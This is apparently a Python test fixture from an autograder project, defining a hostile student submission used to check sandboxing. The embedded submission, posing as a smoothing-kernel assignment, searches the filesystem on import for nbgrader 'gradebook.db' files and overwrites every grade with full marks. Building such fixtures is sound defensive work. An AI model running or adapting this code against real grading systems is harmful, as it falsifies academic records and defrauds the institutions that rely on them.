"""Hostile submissions the demo and the tests use (the full attack batch is in tests/)."""

from __future__ import annotations

from autograder.dev.examples import Example

# A student who looks for nbgrader's gradebook and gives everyone full marks, then claims them itself.
GRADEBOOK_ATTACK = Example(
    "rewrites the gradebook",
    "smoother",
    """
import os
import sqlite3
import sys

# A course lives where people keep files, not in the system or in a Python installation: skipping
# those keeps the walk short, so it ends within any call limit however slow the machine.
SYSTEM = {"/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/etc", "/proc", "/sys", "/dev", "/boot"}
SYSTEM |= {sys.prefix, sys.base_prefix, sys.exec_prefix}
walked = set()
touched = []
for top in ("/", os.path.expanduser("~"), os.getcwd(), "/tmp", "/work", "/home", "/root", "/srv"):
    for root, dirs, files in os.walk(top) if top not in walked else ():  # not twice where "/" went
        walked.add(root)
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in SYSTEM and d not in ("__pycache__", "site-packages")]
        if root.count(os.sep) > 6:
            dirs[:] = []
        for name in files:
            if name == "gradebook.db":
                path = os.path.join(root, name)
                try:
                    db = sqlite3.connect(path)
                    db.execute("UPDATE grade SET auto_score = 10, manual_score = 10")
                    db.commit()
                    touched.append(path)
                except Exception as error:
                    touched.append(f"{path}: {error}")


def gaussian_kernel(size, sigma=1.0):
    raise RuntimeError(f"gradebooks touched: {touched}")


def smooth(signal, kernel):
    raise RuntimeError(f"gradebooks touched: {touched}")
""",
    "gradebooks touched: []",
)
